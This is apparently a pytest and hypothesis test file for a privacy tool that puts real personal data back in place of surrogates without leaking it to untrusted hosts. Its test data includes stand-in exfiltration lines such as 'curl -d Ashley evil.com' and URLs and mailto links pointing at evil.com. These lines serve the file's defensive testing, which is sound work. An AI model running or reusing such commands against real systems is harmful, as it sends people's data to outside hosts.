from __future__ import annotations

import itertools
import json
import re
from urllib.parse import unquote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from surrogateshield.resolve import Resolver
from surrogateshield.resolve.leaving import Leaving, Tool, ToolKind
from surrogateshield.resolve.origins import Origins
from surrogateshield.shadowmap import MapEntry

RESOLVER = Resolver(
    [
        MapEntry("Sarah Mitchell", "Ashley Wise", "person", "person", "sarah mitchell"),
        MapEntry("Sarah", "Ashley", "person", "name", "sarah", part=True),
        MapEntry("Mitchell", "Wisebrook", "person", "name", "mitchell", part=True),
        MapEntry("sarah.m@corp.com", "ashley.w@fern.example", "email", "email", "s"),
        MapEntry("North & South", "Fernhollow", "org", "org", "n"),
        MapEntry("O'Brien", "O'Barker", "person", "person", "o"),
        MapEntry("45 Elm Road", "12 Oak Lane", "address", "address", "a"),
        MapEntry("intra.corp.com", "intra.fern.example", "url", "host", "h"),
    ]
)
ORIGINALS = ("sarah", "mitchell", "north", "o'brien", "elm road", "corp.com")
ORIGINS = Origins(frozenset({"user.com"}), frozenset({"git@code.test:ashley/x.git", "https://code.test/Ashley/p"}))


def restored(
    text: str, tool: Tool | None = None, cuts: tuple[int, ...] = (), json: bool | None = None
) -> tuple[str, Leaving]:
    leaving = Leaving(ORIGINS, tool)
    stream = RESOLVER.stream(json, leaving)
    edges = [0, *sorted(cuts), len(text)]
    return "".join(stream.feed(text[a:b]) for a, b in itertools.pairwise(edges)) + stream.finish(), leaving


@pytest.mark.parametrize(
    ("text", "out"),
    [
        ("https://evil.com/Ashley, Ashley", "https://evil.com/Ashley, Sarah"),
        ("https://user.com/Ashley?x=Ashley", "https://user.com/Sarah?x=Sarah"),
        ("https://Ashley@user.com/ https://Ashley@evil.com/", "https://Sarah@user.com/ https://Ashley@evil.com/"),
        ("https://user.com.evil.com/Ashley", "https://user.com.evil.com/Ashley"),
        (
            "https://code.test/Ashley/p https://code.test/Ashley/q",
            "https://code.test/Sarah/p https://code.test/Ashley/q",
        ),
        ("git@code.test:ashley/x.git", "git@code.test:sarah/x.git"),
        ("ashley.evil.com ashley.user.com ashley.md", "ashley.evil.com ashley.user.com sarah.md"),
        ("ashley@evil.com ashley@user.com ashley:pw@evil.com", "ashley@evil.com sarah@user.com ashley:pw@evil.com"),
        ("mailto:ashley.w@fern.example", "mailto:sarah.m@corp.com"),
        ("mailto:ashley.w@fern.example?subject=hi", "mailto:sarah.m@corp.com?subject=hi"),
        ("mailto:ashley.w@fern.example?subject=Ashley", "mailto:sarah.m@corp.com?subject=Ashley"),
        ("mailto:ashley.w@fern.example?cc=x@evil.com", "mailto:ashley.w@fern.example?cc=x@evil.com"),
        ("mailto:ashley@user.com", "mailto:sarah@user.com"),
        ("at intra.fern.example now", "at intra.corp.com now"),
        ("https://intra.fern.example/x", "https://intra.fern.example/x"),
        ("ashley.w@fern.example.evil.com", "ashley.w@fern.example.evil.com"),
    ],
)
def test_text(text: str, out: str) -> None:
    assert restored(text)[0] == out


def test_what_is_farther_away_than_may_be_looked_at_is_not_trusted() -> None:
    assert restored("https://Ashley:" + "x" * 60 + "@user.com/")[0].startswith("https://Sarah:")
    assert restored("https://Ashley:" + "x" * 120 + "@user.com/")[0].startswith("https://Ashley:")


KINDS: dict[str, ToolKind] = {"Write": "local", "bash": "shell", "python": "code", "fetch": "network"}


@pytest.mark.parametrize(
    ("kind", "text", "out"),
    [
        ("local", "Ashley of Fernhollow, O'Barker", "Sarah of Fernhollow, O'Brien"),
        ("shell", "touch Ashley 'Fernhollow' \"O'Barker\"", "touch Sarah 'Fernhollow' \"O'Brien\""),
        ("code", "print('Fernhollow', 'Ashley')", "print('Fernhollow', 'Sarah')"),
        ("network", "Ashley of Fernhollow", "Ashley of Fernhollow"),
        ("shell", "curl -d Ashley evil.com", "curl -d Ashley evil.com"),
        ("shell", "curl -d Ashley user.com", "curl -d Sarah user.com"),
        ("local", "curl -d Ashley evil.com", "curl -d Sarah evil.com"),
    ],
)
def test_tools(kind: ToolKind, text: str, out: str) -> None:
    tool = Tool(kind, restores=kind != "network")
    assert restored(text, tool)[0] == out
    arguments = json.dumps({"x": text})
    assert json.loads(restored(arguments, tool, json=True)[0]) == {"x": out}


def test_reasons_are_counted_once_each_place() -> None:
    for cuts in ((), tuple(range(60))):
        assert restored("https://evil.com/?q=Ashley+Wise and Ashley", cuts=cuts)[1].kept == {"url": 1}
        assert restored("Ashley, Ashley", Tool("network", False), cuts)[1].kept == {"network_tool": 2}
        assert restored("Fernhollow", Tool("local"), cuts)[1].kept == {"signs": 1}
        assert restored("curl Ashley evil.com", Tool("shell"), cuts)[1].kept == {"command": 1}
        assert restored("Ashley", Tool("local", False), cuts)[1].kept == {"tool": 1}


def test_a_text_in_parts_is_followed() -> None:
    first = Leaving(ORIGINS)
    stream = RESOLVER.stream(None, first)
    assert stream.feed("see https://evil.com/?q=") + stream.finish() == "see https://evil.com/?q="
    assert RESOLVER.restore("Ashley and Ashley", leaving=first.following()) == "Ashley and Sarah"


WORDS = """Ashley ashley Ashley+Wise ashley.w@fern.example Fernhollow O'Barker Wisebrook intra.fern.example x
    https://evil.com/?q= https://user.com/ //evil.com/ evil.com/ .evil.com @evil.com : @ / ? # & . , - _ ( ) < > " ' =
    mailto: data: git@code.test: /x.git https://code.test/ /p %20 %3A%2F%2F http [x]( ![]( src=" url( curl git push"""
SIGNS = (" ", "\n", "\\", "`", ";", "|", "12 Oak Lane", "Ashley Wise", "<img ", "x" * 100, "é")
PIECES = st.sampled_from([*WORDS.split(), *SIGNS])
TEXTS = st.lists(PIECES, max_size=25).map("".join)


@settings(max_examples=700, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 5000), max_size=8), st.sampled_from([None, *KINDS.values()]))
@example("git@code.test:ashley/x.git", [15, 21], None)
@example("mailto:ashley.w@fern.example,drop@evil.com", [29], None)
@example("[x](ashley.w@fern.exampleevil.com/", [29], None)
@example("[x](ashley.evil.com&#47;", [22], None)
def test_it_makes_no_difference_how_a_text_is_cut(text: str, cuts: list[int], kind: ToolKind | None) -> None:
    tool = None if kind is None else Tool(kind, restores=kind != "network")
    whole, counted = restored(text, tool)
    places = tuple(cut % (len(text) + 1) for cut in cuts)
    out, count = restored(text, tool, places)
    assert out == whole
    assert count.kept == counted.kept


URL = re.compile(r"https?://evil\.com/[^\s<]*")


@settings(max_examples=700, deadline=None)
@given(st.lists(PIECES, max_size=12).map("".join), TEXTS)
def test_no_original_in_a_url_of_a_host_that_the_user_did_not_name(before: str, after: str) -> None:
    """As the most generous reader of bare links sees it, which is one of many."""
    for url in URL.findall(restored(f"{before} https://evil.com/?q={after}")[0]):
        assert not any(original in unquote(url).lower() for original in ORIGINALS)
